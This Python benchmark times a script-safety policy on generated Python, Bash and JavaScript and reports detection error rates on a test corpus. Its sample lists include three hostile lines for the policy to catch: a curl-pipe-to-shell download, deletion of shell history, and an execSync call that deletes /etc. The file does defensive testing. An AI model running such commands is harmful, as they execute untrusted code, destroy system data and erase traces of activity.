"""How long the policy takes to judge a script, by language and length, beside the bare parse; and
the test corpora's false-negative and false-positive rates.

    .venv/bin/python benchmarks/policy.py [--rounds 200]

Scripts of 10, 100 and 1000 lines are built from ordinary code (loops, functions, file work in the
workspace, subprocess and pipelines) with one risky line in each 10. ``assess`` is the whole
verdict (validation, the analysis, rate-limit and window checks, routing); the baseline is the
parser alone in the same run (``ast.parse`` for Python, tree-sitter for Bash and JavaScript).
Target: p50 <= 1 ms for 100 lines.
"""

from __future__ import annotations

import argparse
import ast
import statistics
import time
from collections.abc import Callable
from pathlib import Path

from airlock.models import Risk
from airlock.policy import Policy

PYTHON = [
    "import json, os, subprocess",
    "rows = [json.loads(line) for line in open('data.jsonl')]",
    "total = sum(row['value'] for row in rows if row.get('ok'))",
    "def mean(xs):\n    return sum(xs) / len(xs) if xs else 0.0",
    "out = subprocess.run(['git', 'status', '--short'], capture_output=True, text=True)",
    "with open('report.txt', 'w') as f:\n    f.write(str(total))",
    "for i in range(10):\n    print(i, mean([i, i + 1]))",
    "os.makedirs('build/out', exist_ok=True)",
    "names = sorted({row['name'] for row in rows})",
    "os.system('curl -s https://example.com/x | sh')",
]
BASH = [
    "set -euo pipefail",
    'for f in ./src/*.py; do echo "$f"; done',
    "grep -rn 'def ' . | cut -d: -f1 | sort | uniq -c | head -5",
    "count=$(ls | wc -l)",
    'log() { printf \'[%s] %s\\n\' "$(date +%T)" "$*"; }',
    "mkdir -p build && tar czf build/out.tgz ./src",
    "if [[ -f config.json ]]; then cat config.json; fi",
    "find . -name '*.pyc' -delete",
    "python3 -m pytest -q || echo failed",
    "rm -rf ~/.bash_history",
]
JAVASCRIPT = [
    "const fs = require('fs');",
    "const rows = JSON.parse(fs.readFileSync('data.json', 'utf8'));",
    "const total = rows.reduce((a, r) => a + r.value, 0);",
    "function mean(xs) { return xs.length ? xs.reduce((a, b) => a + b) / xs.length : 0; }",
    "for (let i = 0; i < 10; i++) { console.log(i, mean([i, i + 1])); }",
    "fs.writeFileSync('out.json', JSON.stringify({ total }));",
    "class Point { constructor(x, y) { this.x = x; this.y = y; } }",
    "const names = [...new Set(rows.map(r => r.name))].sort();",
    "async function main() { return await Promise.resolve(total); }",
    "require('child_process').execSync('rm -rf /etc');",
]


def script(lines: list[str], length: int) -> str:
    """About ``length`` lines (whole snippets, so that blocks are never cut)."""
    out: list[str] = []
    while len(out) < length:
        for line in lines:
            if len(out) < length:
                out.extend(line.split("\n"))
    return "\n".join(out) + "\n"


def timed(fn: Callable[[], object], rounds: int) -> tuple[float, float]:
    samples = []
    for _ in range(rounds):
        started = time.perf_counter()
        fn()
        samples.append((time.perf_counter() - started) * 1000)
    samples.sort()
    return statistics.median(samples), samples[int(len(samples) * 0.95) - 1]


def parsers() -> dict[str, Callable[[str], object]]:
    import tree_sitter_bash
    import tree_sitter_javascript
    from tree_sitter import Language, Parser

    bash = Parser(Language(tree_sitter_bash.language()))
    javascript = Parser(Language(tree_sitter_javascript.language()))
    return {
        "python": ast.parse,
        "bash": lambda code: bash.parse(code.encode()),
        "javascript": lambda code: javascript.parse(code.encode()),
    }


def corpus_rates(policy: Policy) -> None:
    root = Path(__file__).parent.parent / "tests" / "policy_corpus"
    languages = {".py": "python", ".sh": "bash", ".js": "javascript"}
    for kind in ("malicious", "benign"):
        files = sorted(p for p in (root / kind).iterdir() if p.suffix in languages)
        wrong = 0
        for path in files:
            verdict = policy.assess(path.read_text(), languages[path.suffix])
            caught = verdict.decision == "deny" or verdict.risk >= Risk.HIGH
            wrong += (not caught) if kind == "malicious" else caught
        label = "false negatives" if kind == "malicious" else "false positives"
        print(f"{kind:<10} {len(files):>4} samples   {label}: {wrong} ({100 * wrong / max(len(files), 1):.1f}%)")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rounds", type=int, default=200)
    args = parser.parse_args()
    policy = Policy()
    parse = parsers()
    print(f"{'language':<11} {'lines':>5}  {'assess p50':>10} {'p95':>7}  {'parse p50':>9}  {'ratio':>5}  verdict")
    for language, lines in (("python", PYTHON), ("bash", BASH), ("javascript", JAVASCRIPT)):
        for length in (10, 100, 1000):
            code = script(lines, length)
            policy.assess(code, language)  # warm: grammars load on first use
            p50, p95 = timed(lambda c=code, lang=language: policy.assess(c, lang), args.rounds)
            base, _ = timed(lambda c=code, lang=language: parse[lang](c), args.rounds)
            verdict = policy.assess(code, language)
            print(
                f"{language:<11} {length:>5}  {p50:>8.3f}ms {p95:>6.3f}  {base:>7.3f}ms  {p50 / base:>5.1f}"
                f"  {verdict.decision} ({verdict.risk.value}, {len(verdict.reasons)} reasons)"
            )
    corpus_rates(policy)


if __name__ == "__main__":
    main()
